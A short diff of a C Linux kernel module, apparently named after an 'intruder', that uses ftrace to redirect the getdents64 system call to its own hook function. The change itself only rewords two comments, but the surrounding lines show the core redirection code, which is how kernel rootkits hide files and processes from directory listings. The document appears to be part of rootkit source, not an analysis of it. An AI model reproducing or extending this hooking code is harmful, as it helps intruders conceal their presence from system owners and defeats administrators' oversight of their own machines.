@@ -1,4 +1,4 @@
-/* Calls of getdents64 are sent here by ftrace. */
+/* Redirects calls of getdents64 to this module through ftrace. */
 #include "intruder.h"
 #include <linux/ftrace.h>
 
@@ -17,7 +17,7 @@ static long hook(const struct pt_regs *registers) {
 #endif
 
 static void notrace redirect(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs) {
-    /* Behind the call of ftrace, which would lead here again */
+    /* After ftrace's call, which would lead here again */
     original = (void *)(ip + MCOUNT_INSN_SIZE);
     registers_of(regs)->ip = (unsigned long)hook;
 }
